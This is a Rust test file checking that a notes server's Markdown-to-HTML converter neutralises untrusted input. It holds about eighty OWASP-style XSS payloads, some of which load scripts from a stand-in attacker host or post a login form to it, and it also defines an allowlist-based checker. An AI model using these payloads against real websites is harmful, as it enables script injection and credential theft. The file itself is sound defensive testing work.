//! Markdown of strangers becomes HTML that does nothing. The strings follow the OWASP XSS Filter Evasion Cheat Sheet.

use server::notes::markdown::to_html;

const ELEMENTS: [&str; 24] = [
    "a",
    "blockquote",
    "br",
    "code",
    "del",
    "em",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "ol",
    "p",
    "pre",
    "strong",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
];

const EVIL: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<SCRIPT SRC=https://evil.example/xss.js?< B >",
    "<SCRIPT/SRC=\"https://evil.example/xss.js\"></SCRIPT>",
    "<SCRIPT/XSS SRC=\"https://evil.example/xss.js\"></SCRIPT>",
    "</TITLE><SCRIPT>alert(1);</SCRIPT>",
    "</textarea><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert(1);\">",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
    "<IMG SRC=# onmouseover=\"alert(1)\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x:x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61>",
    "<IMG SRC=\"jav\tascript:alert(1);\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert(1);\">",
    "<IMG SRC=\" &#14;  javascript:alert(1);\">",
    "<IMG SRC=\"`javascript:alert(1)`\"",
    "<BODY ONLOAD=alert(1)>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><rect width=100 height=100 /></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\" allowscriptaccess=always>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert(1);\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert(1);\">",
    "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
    "<DIV STYLE=\"background-image: url(javascript:alert(1))\">",
    "<TABLE BACKGROUND=\"javascript:alert(1)\">",
    "<BASE HREF=\"javascript:alert(1);//\">",
    "<input type=\"image\" src=\"javascript:alert(1)\" autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<form action=\"https://evil.example\"><button>Log in</button></form>",
    "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<? echo('<script>alert(1)</script>'); ?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](/api/auth/log_out)",
    "[x](https://good.example \"\\\" onmouseover=alert(1) x=\\\"\")",
    "[x](https://good.example/\"onmouseover=alert(1)//)",
    "<javascript:alert(1)>",
    "<https://good.example/\"onmouseover=\"alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![\"><script>alert(1)</script>](https://good.example)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[x]: javascript:alert(1)\n\n[x]",
    "```\"><script>alert(1)</script>\n<script>alert(1)</script>\n```",
    "``` x onload=alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n| <img src=x onerror=alert(1)> | x |",
    "# <script>alert(1)</script> {#id onload=alert(1)}",
    "- [ ] <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "＜script＞alert(1)＜/script＞",
    "¼script¾alert(1)¼/script¾",
];

/// What is wrong in HTML that a serializer wrote, which escapes every `<` that begins no element.
fn complaints(html: &str) -> Vec<String> {
    let mut wrong = Vec::new();
    for piece in html.split('<').skip(1) {
        let Some((element, _)) = quoted_end(piece) else {
            wrong.push(format!("no end: {piece}"));
            continue;
        };
        let (name, attributes) = element.split_once(' ').unwrap_or((element, ""));
        if !ELEMENTS.contains(&name.trim_start_matches('/')) {
            wrong.push(format!("element {name}"));
        }
        let mut rest = attributes;
        while let Some((attribute, after)) = rest.split_once("=\"") {
            let (value, after) = after.split_once('"').unwrap_or((after, ""));
            let is_web = ["http://", "https://", "mailto:"].iter().any(|scheme| value.starts_with(scheme));
            let is_good = match attribute.trim() {
                "href" => is_web,
                "title" => true,
                "rel" => value == "noopener noreferrer nofollow ugc",
                "start" => value.parse::<u32>().is_ok(),
                _ => false,
            };
            if !is_good {
                wrong.push(format!("attribute {attribute}={value}"));
            }
            rest = after;
        }
        if !rest.trim().is_empty() {
            wrong.push(format!("loose text in an element: {rest}"));
        }
    }
    wrong
}

/// The inside of an element, whose end stands in no quotes.
fn quoted_end(piece: &str) -> Option<(&str, &str)> {
    let mut is_quoted = false;
    let end = piece.find(|letter| {
        is_quoted ^= letter == '"';
        letter == '>' && !is_quoted
    })?;
    Some((&piece[..end], &piece[end + 1..]))
}

#[test]
fn nothing_that_strangers_write_does_anything() {
    for evil in EVIL {
        for text in [(*evil).to_owned(), format!("text {evil} text"), format!("> - {evil}\n\n{evil}")] {
            let html = to_html(&text);
            assert_eq!(complaints(&html), Vec::<String>::new(), "{text:?} became {html}");
        }
    }
}

#[test]
fn the_judge_of_this_test_sees_what_is_wrong() {
    for wrong in [
        "<script>",
        "<a href=\"javascript:x\">",
        "<a href=\"https://x\" onclick=\"x\">",
        "<p onclick>",
        "<img src=\"https://x\">",
        "<a title=\"a>b\" onclick=\"x\">",
        "<p",
    ] {
        assert!(!complaints(wrong).is_empty(), "{wrong}");
    }
    assert!(complaints("<a href=\"https://x\" title=\"a>b\">1 &lt; 2</a>").is_empty());
}

#[test]
fn what_people_write_looks_as_they_meant_it() {
    let link = "rel=\"noopener noreferrer nofollow ugc\"";
    for (markdown, html) in [
        ("# Plans", "<h2>Plans</h2>".to_owned()),
        ("### Deeper", "<h3>Deeper</h3>".into()),
        ("*a* **b** ~~c~~ `d`", "<p><em>a</em> <strong>b</strong> <del>c</del> <code>d</code></p>".into()),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>".into()),
        ("3. a", "<ol start=\"3\">\n<li>a</li>\n</ol>".into()),
        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>".into()),
        ("- [x] a\n- [ ] b", "<ul>\n<li>☑ a</li>\n<li>☐ b</li>\n</ul>".into()),
        ("```rust\nlet x = 1 < 2;\n```", "<pre><code>let x = 1 &lt; 2;\n</code></pre>".into()),
        ("[a](https://good.example \"t\")", format!("<p><a href=\"https://good.example\" title=\"t\" {link}>a</a></p>")),
        ("![a](https://good.example/a.png)", format!("<p><a href=\"https://good.example/a.png\" {link}>a</a></p>")),
        ("<b>a</b>", "<p>&lt;b&gt;a&lt;/b&gt;</p>".into()),
        (
            "| a | b |\n|---|--:|\n| 1 | 2 |",
            "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody>\n<tr><td>1</td><td>2</td></tr>\n</tbody></table>".into(),
        ),
    ] {
        assert_eq!(to_html(markdown).trim_end(), html, "{markdown}");
    }
}
